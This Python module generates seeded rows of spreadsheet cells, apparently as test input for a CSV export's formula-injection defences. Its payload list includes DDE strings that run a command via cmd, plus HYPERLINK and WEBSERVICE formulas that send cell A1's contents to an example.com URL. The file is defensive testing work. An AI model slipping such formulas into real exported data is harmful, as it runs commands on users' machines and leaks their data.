"""Cells to extract: text that wants to be a formula, text that wants to be a number, and numbers that are."""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Final

_STARTS: Final = [
    *"=+-@\t\r\n'\uff1d\uff0b\uff0d\uff20",
    "''",
    "'=",
    '"=',
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
    "==",
    "\t=",
    "\r\n=",
]
_PAYLOADS: Final = [
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.com/?x="&A1,"open")',
    'WEBSERVICE("http://example.com/"&A1)',
    "A1",
    "9",
    "-1+2",
    "IF(1,2,3)",
    'DDE("cmd";"/C calc";"x")',
    "49 170 1234567",
    "user@example.com",
    "{1;2}",
    "",
]
_PLAIN: Final = [
    "0012",
    "1e5",
    "TRUE",
    "2026-11-20",
    "1,5",
    "1;5",
    "a|b",
    'say "hi"',
    "äöü 漢字 🙂",
    "O'Neill",
    "x=1",
    "<r>y</r>",
]
_TAILS: Final = ["", "", "", " ", ",x", ";x", "|x", '"x"', "\n=2", "漢", "🙂"]


@dataclass(frozen=True)
class Line:
    """The cells of one row: three of text, three whole numbers."""

    texts: tuple[str, str, str]
    numbers: tuple[int, int, int]


def lines(count: int, *, seed: int) -> list[Line]:
    """Return `count` rows, the same ones for a seed."""
    dice = random.Random(seed)
    return [
        Line(
            texts=(_text(dice), _text(dice), _text(dice)),
            numbers=(
                dice.randint(-(10**6), 10**6),
                -dice.randint(1, 10**9),
                dice.choice([0, -1, 1, -(10**14), 10**14]),
            ),
        )
        for _ in range(count)
    ]


def _text(dice: random.Random) -> str:
    if dice.random() < 0.2:
        return dice.choice(_PLAIN)
    return dice.choice(_STARTS) + dice.choice(_PAYLOADS) + dice.choice(_TAILS)
